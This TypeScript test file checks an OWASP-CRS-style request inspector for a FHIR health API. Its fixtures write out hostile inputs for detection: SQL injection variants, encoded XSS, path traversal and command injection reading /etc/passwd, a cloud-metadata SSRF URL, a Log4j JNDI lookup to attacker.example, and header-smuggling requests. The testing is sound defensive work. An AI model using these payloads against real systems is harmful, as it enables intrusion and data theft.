import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { anomalyScore, createInspector, type RequestHead } from "./index.js";

const contentTypes = { byPathPrefix: [{ prefix: "/", types: ["application/json", "application/fhir+json", "application/x-www-form-urlencoded"] }] };
const pl1 = createInspector({ paranoia: 1, contentTypes });
const pl2 = createInspector({ paranoia: 2, contentTypes });

function get(url: string, headers: Record<string, string> = {}): RequestHead {
  const all = { host: "localhost", "user-agent": "Mozilla/5.0", accept: "*/*", ...headers };
  return { method: "GET", url, headers: all, rawHeaders: Object.entries(all).flat() };
}
const rulesOf = (matches: Array<{ ruleId: number }>) => [...new Set(matches.map((match) => match.ruleId))];

// NET-1: request inspection modelled on OWASP CRS.
describe("request inspector", () => {
  it("passes an ordinary FHIR read and search", () => {
    assert.deepEqual(pl1.inspectHead(get("/fhir/R4/Patient/abc-123")), []);
    assert.deepEqual(pl2.inspectHead(get("/fhir/R4/AuditEvent?patient=abc&date=ge2026-01-01&_count=20")), []);
  });

  it("finds SQL injection written plainly, double-encoded, full-width or split by comments", () => {
    for (const url of [
      "/fhir/R4/Patient?name=x%27%20or%20%271%27%3D%271",
      "/fhir/R4/Patient?name=x%2527%2520union%2520select%2520password%2520from%2520users",
      "/fhir/R4/Patient?name=%EF%BC%87%20%EF%BD%95%EF%BD%8E%EF%BD%89%EF%BD%8F%EF%BD%8E%20%EF%BD%93%EF%BD%85%EF%BD%8C%EF%BD%85%EF%BD%83%EF%BD%94%201",
      "/fhir/R4/Patient?name=1%27/**/UNION/**/SELECT/**/1,2",
    ]) {
      const matches = pl1.inspectHead(get(url));
      assert.ok(matches.some((match) => match.family === "sqli"), url);
      assert.ok(anomalyScore(matches) >= 5, url);
    }
  });

  it("finds script hidden behind HTML entities", () => {
    const matches = pl1.inspectHead(get("/fhir/R4/Patient?name=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B"));
    assert.ok(rulesOf(matches).includes(941010));
  });

  it("finds traversal, metadata SSRF, command, Log4j and smuggled requests where CRS looks", () => {
    assert.ok(rulesOf(pl1.inspectHead(get("/fhir/R4/Binary?file=..%2F..%2Fetc%2Fpasswd"))).includes(930010));
    assert.ok(rulesOf(pl1.inspectHead(get("/fhir/R4/Endpoint?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"))).includes(931020));
    assert.ok(rulesOf(pl1.inspectHead(get("/fhir/R4/Patient?name=a%3Bcat%20%2Fetc%2Fpasswd"))).includes(932010));
    assert.ok(rulesOf(pl1.inspectHead(get("/fhir/R4/metadata", { "x-api-version": "${jndi:ldap://attacker.example/a}" }))).includes(944010));
    assert.ok(rulesOf(pl1.inspectHead(get("/fhir/R4/Patient?a=%0d%0aSet-Cookie%3A%20x%3D1"))).includes(921020));
  });

  it("refuses request smuggling headers and methods it does not serve", () => {
    const smuggled = { ...get("/fhir/R4/Patient"), method: "POST", headers: { host: "x", "content-length": "4", "transfer-encoding": "chunked", "content-type": "application/json" } };
    smuggled.rawHeaders = Object.entries(smuggled.headers).flat();
    assert.ok(rulesOf(pl1.inspectHead(smuggled)).includes(920120));
    assert.ok(rulesOf(pl1.inspectHead({ ...get("/"), method: "TRACE" })).includes(911100));
  });

  it("scores a body media type the path does not accept", () => {
    const head = { method: "POST", url: "/api/auth/login", headers: { "content-type": "application/xml", "content-length": "10" }, rawHeaders: ["Content-Type", "application/xml", "Content-Length", "10"] };
    assert.ok(rulesOf(pl1.inspectHead(head)).includes(920100));
  });

  it("inspects JSON bodies by path and names the location, not the value", () => {
    const matches = pl1.inspectJsonBody({ resourceType: "Patient", name: [{ family: "<script>alert(1)</script>" }] });
    assert.equal(matches[0]!.location, "body:name[0].family");
    assert.match(matches[0]!.valueSha256, /^[0-9a-f]{64}$/);
    assert.ok(!JSON.stringify(matches).includes("script>"));
  });

  it("never uses an attacker-chosen parameter name as a location", () => {
    const matches = pl1.inspectHead(get("/fhir/R4/Patient?%27%20or%201%3D1--=1"));
    assert.ok(matches.length > 0);
    assert.ok(matches.every((match) => /^query(-name)?:#\d+$/.test(match.location)), JSON.stringify(matches.map((m) => m.location)));
  });

  it("adds broader rules at paranoia level 2", () => {
    const url = "/fhir/R4/Patient?name=abc%27%20like%20%27def";
    assert.ok(anomalyScore(pl1.inspectHead(get(url))) < 5);
    assert.ok(anomalyScore(pl2.inspectHead(get(url))) >= 5);
  });

  it("lets Japanese names, narrative XHTML and FHIRPath constraints through", () => {
    const body = {
      resourceType: "Patient",
      text: { status: "generated", div: '<div xmlns="http://www.w3.org/1999/xhtml"><p>山田 太郎 (やまだ たろう), code \'M\' = \'male\'</p><img src="#photo" alt="photo"/></div>' },
      name: [{ family: "山田", given: ["太郎"] }, { family: "ヤマダ", given: ["タロウ"] }],
      telecom: [{ system: "phone", value: "+81-3-1234-5678" }],
      extension: [{ url: "http://example.org/fhir/StructureDefinition/note", valueString: "Select the dose from the list; take with water or \"after meals\"." }],
      contained: [{ resourceType: "Basic", id: "c", text: { status: "generated", div: "<div>value of \"true\" or \"false\"</div>" } }],
    };
    assert.deepEqual(pl1.inspectJsonBody(body), []);
    assert.deepEqual(pl2.inspectJsonBody(body), []);
  });
});

describe("request inspector exclusions", () => {
  it("lets an OAuth loopback redirect URI through but not the same URL in another parameter", () => {
    const redirect = createInspector({ paranoia: 1, contentTypes }).inspectFormBody("grant_type=authorization_code&redirect_uri=http%3A%2F%2F127.0.0.1%3A8080%2Fcallback");
    assert.deepEqual(redirect, []);
    const elsewhere = createInspector({ paranoia: 1, contentTypes }).inspectFormBody("url=http%3A%2F%2F127.0.0.1%3A8080%2Fcallback");
    assert.ok(anomalyScore(elsewhere) >= 5);
  });

  it("lets the SMART aud name an intranet server's FHIR base URL (it is compared with this server's, never fetched)", () => {
    const inspector = createInspector({ paranoia: 1, contentTypes });
    const head = (url: string) => ({ method: "GET", url, headers: {}, rawHeaders: [] });
    assert.deepEqual(inspector.inspectHead(head("/oidc/auth?client_id=x&aud=https%3A%2F%2F10.1.2.3%3A8443%2Ffhir%2FR4")), []);
    assert.ok(anomalyScore(inspector.inspectHead(head("/oidc/auth?client_id=x&target=https%3A%2F%2F10.1.2.3%3A8443%2Ffhir%2FR4"))) >= 5);
  });

  it("lets a Referer from the service's own intranet origin through, but not an internal Referer from elsewhere", () => {
    const inspector = createInspector({ paranoia: 1, contentTypes, ownOrigin: "https://10.1.2.3" });
    const head = (referer: string) => ({ method: "GET", url: "/fhir/R4/metadata", headers: { referer }, rawHeaders: ["Referer", referer] });
    assert.deepEqual(inspector.inspectHead(head("https://10.1.2.3/oidc/session/end?client_id=x")), []);
    assert.ok(anomalyScore(inspector.inspectHead(head("https://10.9.9.9/admin"))) >= 5);
  });
  it("keeps the administrators' OAuth client registration free to name a loopback redirect URI", () => {
    const inspector = createInspector({ paranoia: 1, contentTypes });
    assert.deepEqual(inspector.inspectJsonBody({ name: "native", redirectUris: ["http://127.0.0.1:7777/cb"] }), []);
    assert.ok(anomalyScore(inspector.inspectJsonBody({ name: "native", callback: "http://127.0.0.1:7777/cb" })) >= 5);
  });
});
